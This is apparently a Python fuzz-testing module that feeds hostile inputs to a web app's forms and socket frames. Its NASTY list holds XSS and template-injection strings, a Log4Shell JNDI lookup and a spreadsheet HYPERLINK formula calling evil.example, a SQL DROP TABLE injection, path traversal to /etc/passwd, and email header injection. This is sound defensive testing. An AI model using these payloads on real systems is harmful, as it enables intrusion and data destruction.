"""Hostile input, as an attacker or a broken client would send it (issue 22)."""

import os

from hypothesis import HealthCheck
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

# 200 per public form and per socket frame type in every suite run, so CI stays well
# inside its time; FUZZ_EXAMPLES=1000 for the full campaign recorded in
# docs/development/security.md (about 15 minutes for the socket frames here).
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "200"))

FUZZ = hypothesis_settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)

NASTY = [
    "",
    " ",
    "\t\n",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\r\nBcc: victim@example.org",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE contact_lead; --",
    "../../../etc/passwd",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example")',
    "\u202egpj.exe",
    "\u200b\u200d\u2060\ufeff",
    "٨٤٣ ٥٥٥ ٠١٣٤",
    "（８４３）５５５－０１３４",
    "𝟖𝟒𝟑𝟓𝟓𝟓𝟎𝟏𝟑𝟒",
    "1e309",
    "NaN",
    "-1",
    "9" * 400,
    "x" * 20_000,
    "é" * 5_000,
    "😀" * 3_000,
    "\ud7ff\ue000\uffff",
    "%00%ff%fe",
    "null",
    "true",
    "[" * 8000 + "]" * 8000,
    '{"a":' * 3000 + "1" + "}" * 3000,
]

HOSTILE_TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=200),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), max_size=20),
    st.text(alphabet=st.characters(categories=["Nd"]), min_size=7, max_size=15),
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=40)),
)

JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    HOSTILE_TEXT,
)
HOSTILE_JSON = st.recursive(
    JSON_SCALARS,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.text(max_size=10), children, max_size=4),
    ),
    max_leaves=12,
)
